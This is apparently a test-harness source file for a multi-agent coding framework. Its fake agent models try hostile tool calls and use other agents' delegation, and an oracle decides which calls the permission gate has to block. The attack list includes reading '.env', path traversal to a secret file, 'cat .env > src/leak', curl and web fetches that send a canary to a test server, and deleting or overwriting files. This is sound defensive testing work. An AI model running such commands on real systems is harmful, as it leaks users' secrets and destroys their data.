// Random agents whose models attack through calls of other agents, and an oracle for what each may do.
import assert from "node:assert/strict";
import type { EventOf } from "../../src/core/events.ts";
import type { ModelRequest } from "../../src/core/ports/model.ts";
import type { Tool } from "../../src/core/ports/tool.ts";
import { type AgentDefinition, PERMISSIONS, type Permission, type Role } from "../../src/core/role.ts";
import { numbers } from "../fakes/hostileText.ts";
import { CANARY } from "./arena.ts";
import { type Case, grid, mayRun, passes } from "./scopeGrid.ts";

type Next = ReturnType<typeof numbers>;

/** A tool call, and the permissions without which it must not run. */
export interface Attack {
	name: string;
	input: Record<string, unknown>;
	needs: readonly Permission[];
	/** What it needs of that which the turn gives to those whom it calls. */
	passes?: readonly Permission[];
}

/** Their effects are seen in the workspace, or at the server behind `url`; nothing else is harmed if one runs. */
export function attacks(url: string): Attack[] {
	const patch = (body: string) => ({ patch: `*** Begin Patch\n${body}\n*** End Patch` });
	const all = (name: string, needs: readonly Permission[], inputs: readonly Record<string, unknown>[]): Attack[] =>
		inputs.map((input) => ({ name, input, needs }));
	return [
		...all("read_file", ["ReadFiles"], [{ path: ".env" }, { path: "src/a.ts" }, { path: "../outside/secret.txt" }]),
		...all("search_code", ["ReadFiles"], [{ pattern: CANARY }]),
		...all("grep", ["ReadFiles"], [{ pattern: CANARY }]),
		...all(
			"create_file",
			["CreateFiles"],
			[
				{ path: "PWNED", content: "x" },
				{ path: ".vscode/tasks.json", content: "{}" },
			],
		),
		...all("create_file", ["CreateFiles"], [{ path: "link/new.txt", content: "x" }]),
		...all(
			"update_file",
			["WriteFiles"],
			[
				{ path: "victim", old: "one", new: "PWNED" },
				{ path: ".env", old: "SECRET", new: "PWNED" },
			],
		),
		...all("delete_file", ["DeleteFiles"], [{ path: "victim" }, { path: "hard.txt" }]),
		...all("rename_file", ["WriteFiles", "CreateFiles"], [{ from: "victim", to: "src/taken.txt" }]),
		...all("apply_patch", ["WriteFiles"], [patch("*** Update File: victim\n@@\n-one\n+PWNED"), patch("*** Add File: PWNED2\n+x")]),
		...all("apply_patch", ["WriteFiles", "DeleteFiles"], [patch("*** Delete File: src/b.ts")]),
		...all("execute_command", ["ExecuteCommands"], [{ command: "touch PWNED3" }, { command: `curl -s ${url}?${CANARY}` }]),
		...all("execute_command", ["ExecuteCommands"], [{ command: "cat .env > src/leak" }, { command: "echo x | tee PWNED4" }]),
		...all("execute_command", ["ExecuteCommands"], [{ command: "git config core.pager x" }, { command: "ls", background: true }]),
		...all("web_fetch", ["Network"], [{ url: `${url}?${CANARY}` }, { url: `${url.replace("127.0.0.1", "localhost")}${CANARY}` }]),
		...all("notes_write", [], [{ text: CANARY, title: "x" }]),
		...all("mcp__things__send", ["ExternalTools"], [{ text: CANARY }]),
		...all("mcp__things__look", [], [{ text: "x" }]),
		...all("agents_list", [], [{}]),
	];
}

/** The rest of the input does not matter to the gate. */
export function messageTo(agentId: string): Attack {
	return {
		name: "agents_message",
		input: { agentId, content: "x" },
		needs: ["Delegate"],
		...(agentId === "http" && { passes: ["Network"] }),
	};
}

export interface Node {
	turn: string;
	agent: AgentDefinition;
	role: Role;
	depth: number;
	chain: readonly string[];
	/** What its calls may use, and what those may whom it calls. */
	may: ReadonlySet<Permission>;
	gives: ReadonlySet<Permission>;
	/** Who called it. */
	from?: Node;
	/** Begun by an answer that came late. */
	late?: true;
}

function within({ permissions, ceiling }: Role, limit: ReadonlySet<Permission>): Pick<Node, "may" | "gives"> {
	const cut = (list: readonly Permission[]) => new Set(list.filter((permission) => limit.has(permission)));
	return { may: cut(permissions), gives: cut(ceiling ?? permissions) };
}

interface Sent {
	from: Node;
	to: string;
}

/** What was tried by whom; `call` is the id in the transcript. */
export interface Tried {
	node: Node;
	attack: Attack;
	call: string;
}

export const CUSTOM_ROLES: Role[] = [
	role("watcher", ["ReadFiles", "Delegate"], PERMISSIONS),
	role("sender", ["Network", "Delegate"], ["ReadFiles", "Network"]),
	role("typist", ["ReadFiles", "WriteFiles", "CreateFiles", "Delegate"]),
	role("nothing", []),
	role("relay", ["Delegate"], ["ReadFiles", "Delegate", "ExecuteCommands"]),
	role("outside", ["ReadFiles", "ExternalTools", "Delegate"], ["ExternalTools", "Delegate", "DeleteFiles"]),
];

function role(id: string, permissions: readonly Permission[], ceiling?: readonly Permission[]): Role {
	return { id, label: id, permissions, ...(ceiling && { ceiling }), prompt: "" };
}

const LISTS: readonly (readonly string[] | null | undefined)[] = [
	undefined,
	undefined,
	undefined,
	undefined,
	undefined,
	null,
	[],
	["agent_*"],
	["agent_1*", "http"],
	["*"],
	["!*"],
	["agent_[2-5]"],
];

const ROLE_LISTS: readonly (readonly string[] | undefined)[] = [
	undefined,
	undefined,
	undefined,
	["planner", "actor"],
	["actor"],
	["watcher", "relay", "actor"],
	["nothing", "tester"],
	["typist"],
];

/** Agents with random lists and roles, one that the user does not see, and one behind a server. */
export function randomAgents(seed: number, url: string): AgentDefinition[] {
	const next = numbers(seed);
	const pick = <T>(items: readonly T[]): T => items[next(items.length)] as T;
	const made = grid(20).map(({ agent }: Case, index): AgentDefinition => {
		const [allow, deny, roles] = [pick(LISTS), next(4) === 0 ? pick(LISTS) : undefined, pick(ROLE_LISTS)];
		// Most have no lists of tools, so that much is called.
		const { agentId, displayName, toolExposure: _, ...lists } = agent;
		return {
			agentId,
			displayName,
			...(index % 4 === 0 && lists),
			...(allow !== undefined && { agentAllowlist: allow }),
			...(deny !== undefined && { agentDenylist: deny }),
			...(roles && { roles, defaultRole: pick(roles) }),
		};
	});
	return [
		...made,
		{ agentId: "hidden", displayName: "Hidden", uiVisible: false },
		{ agentId: "http", displayName: "Elsewhere", type: "external", external: { inputUrl: `${url}hook` } },
	];
}

export interface World {
	url: string;
	ours: readonly Tool[];
	theirs: readonly Tool[];
	agents: readonly AgentDefinition[];
	roles(): readonly Role[];
}

const MAX_DEPTH = 4;

export function rootNode(agent: AgentDefinition, role: Role): Node {
	return { turn: "", agent, role, depth: 0, chain: [agent.agentId], ...within(role, new Set(PERMISSIONS)) };
}

export function calledNode(world: Pick<World, "roles">, from: Node, agent: AgentDefinition): Node {
	const role = roleFor(world, agent, from.role);
	return { turn: "", agent, role, from, depth: from.depth + 1, chain: [...from.chain, agent.agentId], ...within(role, from.gives) };
}

/** Why this call must not run; undefined if it may. */
export function forbidden(
	{ agents, ours, theirs }: Omit<World, "url">,
	{ node, attack }: Pick<Tried, "node" | "attack">,
): string | undefined {
	const { agent, role, may, gives, chain, depth } = node;
	const missing = attack.needs.find((permission) => !may.has(permission)) ?? attack.passes?.find((permission) => !gives.has(permission));
	if (missing) return `${missing} is missing`;
	const asking = { agent, role: { ...role, permissions: [...may] }, ours, theirs, pluginsOff: [] };
	if (mayRun(asking, attack.name) === undefined) return "the lists forbid the tool";
	if (attack.name !== "agents_message") return undefined;
	const to = String(attack.input["agentId"]);
	if (!passes(agent.agentAllowlist, agent.agentDenylist, to)) return "the lists forbid the agent";
	if (chain.includes(to)) return "a ring";
	if (depth + 1 > MAX_DEPTH) return "too deep";
	const target = agents.find(({ agentId }) => agentId === to);
	return target && target.uiVisible !== false ? undefined : "not to be called";
}

/** The caller's role, or that which it names, where the agent may have it. */
function roleFor({ roles }: Pick<World, "roles">, agent: AgentDefinition, caller: Role): Role {
	const wanted = caller.peerRole ?? caller.id;
	return roleOf({ roles }, agent.roles === undefined || agent.roles.includes(wanted) ? wanted : (agent.defaultRole ?? "planner"));
}

function roleOf({ roles }: Pick<World, "roles">, id: string): Role {
	const found = roles().find((candidate) => candidate.id === id);
	assert.ok(found, `no role ${id}`);
	return found;
}

function agentOf({ agents }: Pick<World, "agents">, id: string): AgentDefinition {
	const found = agents.find(({ agentId }) => agentId === id);
	assert.ok(found, `no agent ${id}`);
	return found;
}

/** Plays all agents of a tree. A turn tries every attack, then calls others; the oracle goes by what messages say, not by `started`. */
export class Tree {
	readonly tried: Tried[] = [];
	readonly nodes = new Map<string, Node>();
	private readonly sent = new Map<string, Sent>();
	private readonly steps = new Map<string, number>();
	private readonly attacks: readonly Attack[];
	private readonly next: Next;
	private readonly world: World;
	/** Calls of agents that the model still wants to make. */
	private left: number;
	private ids = 0;
	private readonly name: string;

	constructor(name: string, seed: number, world: World, calls = 9) {
		this.name = name;
		this.next = numbers(seed);
		this.world = world;
		this.left = calls;
		this.attacks = attacks(world.url);
	}

	answer(request: Pick<ModelRequest, "events" | "tools">): { text?: string; calls?: { id: string; name: string; input: unknown }[] } {
		const started = request.events.findLast((event) => event.type === "started");
		assert.ok(started?.type === "started" && started.turn !== undefined);
		const node = this.nodes.get(started.turn) ?? this.enter(started, request);
		for (const { name } of request.tools) {
			const missing = this.declared(name).filter((permission) => !node.may.has(permission));
			assert.deepEqual(missing, [], `${name} is offered to ${node.chain.join(" → ")}`);
		}
		const step = this.steps.get(node.turn) ?? 0;
		this.steps.set(node.turn, step + 1);
		if (step === 0) return { calls: this.attacks.map((attack) => this.attempt(node, attack)) };
		// What another agent answered may make it try again.
		if (step === 1) return { calls: [...this.forward(node), this.attempt(node, this.attacks[this.next(this.attacks.length)] as Attack)] };
		return { text: "Done." };
	}

	private attempt(node: Node, attack: Attack) {
		const call = this.id();
		this.tried.push({ node, attack, call });
		return { id: call, name: attack.name, input: attack.input };
	}

	/** Calls of agents; most of them may be called, where some may. */
	private forward(node: Node) {
		const ids = this.world.agents.map(({ agentId }) => agentId);
		const allowed = ids.filter((to) => this.forbidden({ node, attack: messageTo(to) }) === undefined);
		const count = Math.min(this.left, 2 + this.next(2));
		this.left -= count;
		return Array.from({ length: count }, () => {
			const hostile = allowed.length === 0 || this.next(3) === 0;
			const to = this.pick(hostile ? [...ids, node.agent.agentId, ...node.chain, "AGENT_1", "agent_2 "] : allowed);
			const call = this.id();
			this.sent.set(call, { from: node, to });
			this.tried.push({ node, attack: messageTo(to), call });
			const input = { agentId: to, content: `<call id="${call}">`, session: this.pick(["create", "latest-or-create", "latest"]) };
			return { id: call, name: "agents_message", input: { ...input, ...(this.next(4) === 0 && { mode: "async" }) } };
		});
	}

	/** The first request of a turn. */
	private enter(started: EventOf<"started">, { events }: Pick<ModelRequest, "events">): Node {
		const said = events.find((event) => event.type === "user" && event.turn === started.turn);
		assert.ok(said?.type === "user");
		const node = this.nodeOf(started, said.text);
		assert.equal(started.agent, node.agent.agentId, "another agent answers");
		assert.equal(started.role, node.role.id, `role of ${node.chain.join(" → ")}`);
		this.nodes.set(node.turn, node);
		return node;
	}

	private nodeOf(started: EventOf<"started">, text: string): Node {
		const turn = started.turn as string;
		const call = /^<call id="([^"]+)">$/.exec(text)?.[1];
		const late = /^Answer to your call of .* responseId ([^)]+)\)/.exec(text)?.[1];
		if (call !== undefined) {
			const sent = this.sent.get(call);
			assert.ok(sent, "a call that nobody made");
			return { ...calledNode(this.world, sent.from, agentOf(this.world, sent.to)), turn };
		}
		if (late !== undefined) {
			const from = this.nodes.get(late)?.from;
			assert.ok(from, `an answer to nobody: ${text}`);
			return { ...from, turn, late: true, ...within(from.role, from.may) };
		}
		const [agent, role] = [agentOf(this.world, started.agent), roleOf(this.world, started.role)];
		return { ...rootNode(agent, role), turn };
	}

	/** Why this call must not run; undefined if it may. */
	forbidden(one: Pick<Tried, "node" | "attack">): string | undefined {
		return forbidden(this.world, one);
	}

	private declared(name: string): readonly Permission[] {
		const tool = [...this.world.ours, ...this.world.theirs].find((candidate) => candidate.name === name);
		assert.ok(tool, `a tool that nobody has: ${name}`);
		return tool.external && !tool.external.readOnly ? [...tool.permissions, "ExternalTools"] : tool.permissions;
	}

	private pick<T>(items: readonly T[]): T {
		return items[this.next(items.length)] as T;
	}

	private id(): string {
		this.ids += 1;
		return `${this.name}_${this.ids}`;
	}
}
